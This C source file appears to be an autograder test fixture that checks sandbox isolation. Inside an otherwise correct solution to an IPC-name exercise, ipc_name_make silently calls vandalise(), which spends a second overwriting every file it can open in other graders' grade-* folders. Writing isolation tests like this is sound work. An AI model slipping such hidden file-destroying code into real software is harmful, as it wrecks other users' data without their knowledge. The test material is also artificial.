/* writes_other_graders.c - a correct 02-ipc-names that, each time it makes a name, spends a while overwriting every file it can open in every grader's work area it finds (/tmp/grade-*, and beside its own): the course's Makefile and tests, the built test programs, the other exercises' results
 * exercise: 02-ipc-names
 * Graded beside the reference by a second grader of the same user (tests/run
 * does that as user nobody, with and without user namespaces): the code under
 * test writes only in its own run's folder and scratch places, so the other
 * grader, and the other exercise of its own grader, keep every point.
 * expect-score: 5
 * expect-review: close closedir nftw open opendir readdir write
 * grade-with: fast
 * max-seconds: 60
 */
#define _GNU_SOURCE
#include "ipcname.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int spoil(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    int fd;

    (void)st;
    (void)ftw;
    if (flag != FTW_F)
        return 0;
    fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW);
    if (fd >= 0) {
        if (write(fd, "all: ; @echo spoiled\n", 21) < 0) {
            /* then the next one */
        }
        close(fd);
    }
    return 0;
}

/* Every grade-* folder in place, spoiled */
static void spoil_all_in(const char *place)
{
    DIR *d = opendir(place);
    struct dirent *e;

    if (!d)
        return;
    while ((e = readdir(d)) != NULL) {
        char path[512];

        if (strncmp(e->d_name, "grade-", 6) != 0)
            continue;
        snprintf(path, sizeof(path), "%s/%s", place, e->d_name);
        nftw(path, spoil, 16, FTW_PHYS);
    }
    closedir(d);
}

/* A second of trying (once a process), so that a grader beside this one
 * is met. */
static void vandalise(void)
{
    static bool done;
    struct timespec start, now;

    if (done)
        return;
    done = true;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        spoil_all_in("/tmp");
        spoil_all_in("/var/tmp");
        spoil_all_in("../../..");
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < 1);
}

bool ipc_name_valid(const char *name)
{
    size_t len;
    const char *rest;

    if (name == NULL || name[0] != '/')
        return false;
    rest = name + 1;
    len = strlen(rest);
    if (len < 1 || len > IPC_NAME_MAX || strchr(rest, '/'))
        return false;
    return strcmp(rest, ".") != 0 && strcmp(rest, "..") != 0;
}

int ipc_name_make(char *buf, size_t size, const char *tag)
{
    static unsigned long counter;
    int n;

    vandalise();
    if (tag == NULL || tag[0] == '\0' || strchr(tag, '/') != NULL) {
        errno = EINVAL;
        return -1;
    }
    n = snprintf(NULL, 0, "/%s-%ld-%lu", tag, (long)getpid(), counter);
    if (n < 0)
        return -1;
    if ((size_t)n - 1 > IPC_NAME_MAX) {
        errno = EINVAL;
        return -1;
    }
    if (buf == NULL || (size_t)n >= size) {
        errno = ERANGE;
        return -1;
    }
    snprintf(buf, size, "/%s-%ld-%lu", tag, (long)getpid(), counter++);
    return 0;
}
